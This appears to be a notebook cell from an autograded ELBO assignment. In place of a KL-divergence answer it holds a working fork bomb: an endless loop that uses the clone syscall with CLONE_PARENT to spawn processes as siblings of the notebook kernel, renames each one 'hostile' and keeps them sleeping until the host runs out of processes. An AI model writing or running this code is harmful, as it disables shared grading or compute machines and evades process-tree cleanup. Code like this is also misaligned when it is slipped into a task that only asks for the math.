# %% [markdown] base="model" notebook="5_elbo" status="too many processes"
# More siblings of the kernel than processes are allowed, or children where siblings are refused.

# %% kl points=0 reason="not defined"
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE, CLONE_PARENT, SIGCHLD = 56, 0x8000, 17


def sibling():
    made = libc.syscall(CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0)
    return os.fork() if made < 0 else made


while True:
    try:
        if sibling() == 0:
            libc.prctl(15, b"hostile", 0, 0, 0)
            time.sleep(1000)
    except OSError:
        time.sleep(0.1)
